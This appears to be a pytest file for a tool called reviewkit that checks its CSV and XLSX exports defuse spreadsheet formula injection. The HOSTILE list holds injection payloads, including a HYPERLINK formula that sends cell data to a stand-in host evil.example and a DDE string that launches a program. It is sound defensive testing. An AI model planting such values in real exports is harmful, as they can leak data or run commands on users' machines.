"""Every CSV and XLSX reviewkit writes defuses cells a spreadsheet would run as formulas."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from reviewkit.evidence_map import CodedStudy, EvidenceMap, map_table_csv
from reviewkit.export_cells import FORMULA_STARTS, csv_bytes, export_cell, read_cell, xlsx_bytes
from reviewkit.formats import read_csv
from reviewkit.importing import export_records, import_file
from reviewkit.store import Store

ROOT = Path(__file__).resolve().parent.parent
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _live(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS)


def test_records_csv_defuses_formulas_and_reads_them_back(tmp_path):
    store = Store(f"sqlite:///{tmp_path / 'x.sqlite'}")
    review = store.create_review("Formulas")
    ris = "".join(f"TY  - JOUR\nTI  - {title.strip()}\nAU  - {title.strip()}\nER  - \n\n"
                  for title in HOSTILE[:4])
    import_file(store, review, ris.encode(), "hostile.ris", actor="admin")
    data = export_records(store, review, "csv")
    rows = _cells(data)
    assert len(rows) == 5
    assert not [cell for row in rows for cell in row if _live(cell)]
    titles = sorted(r.title for r in read_csv(data.decode("utf-8-sig")))
    assert titles == sorted(t.strip() for t in HOSTILE[:4])


def test_evidence_map_csv_defuses_labels_and_designs():
    study = CodedStudy(record_id=1, title="x", approaches=["a"], outcomes=["o"],
                       design="=HYPERLINK(\"http://x\")")
    evidence_map = EvidenceMap(approaches=[("a", "=1+1")], outcomes=[("o", "@SUM(A1)")],
                               cells={("a", "o"): [study]}, studies=[study])
    rows = _cells(map_table_csv(evidence_map))
    assert rows[1][1] == "'=1+1" and rows[1][3] == "'@SUM(A1)"
    assert not [cell for row in rows for cell in row if _live(cell)]


@pytest.mark.parametrize("value", HOSTILE)
def test_cell_round_trip(value):
    assert not _live(export_cell(value))
    assert read_cell(export_cell(value)) == value
    assert _cells(csv_bytes(["v"], [[value]]))[1] == [export_cell(value)]


def test_numbers_stay_numbers_and_plain_text_is_untouched():
    assert export_cell(-3) == -3 and export_cell(2.5) == 2.5
    assert export_cell("'quoted") == "'quoted" and read_cell("'quoted") == "'quoted"


def test_xlsx_keeps_formula_like_text_as_text():
    from openpyxl import load_workbook

    data = xlsx_bytes({"Records": (["title", "n"], [[value, 1] for value in HOSTILE])})
    sheet = load_workbook(io.BytesIO(data))["Records"]
    cells = [sheet.cell(row, 1) for row in range(2, 2 + len(HOSTILE))]
    assert [c.data_type for c in cells] == ["s"] * len(HOSTILE)
    assert [c.value for c in cells] == HOSTILE
    assert sheet.cell(2, 2).value == 1


def test_no_csv_writer_outside_the_cell_writer():
    # One writer for every export: a new csv.writer or DataFrame.to_csv elsewhere would skip it.
    pattern = re.compile(r"csv\.(writer|DictWriter)\(|\.to_csv\(|\.to_excel\(|Workbook\(")
    offenders = [str(path.relative_to(ROOT)) for path in (ROOT / "reviewkit").rglob("*.py")
                 if path.name != "export_cells.py" and pattern.search(path.read_text())]
    assert offenders == []
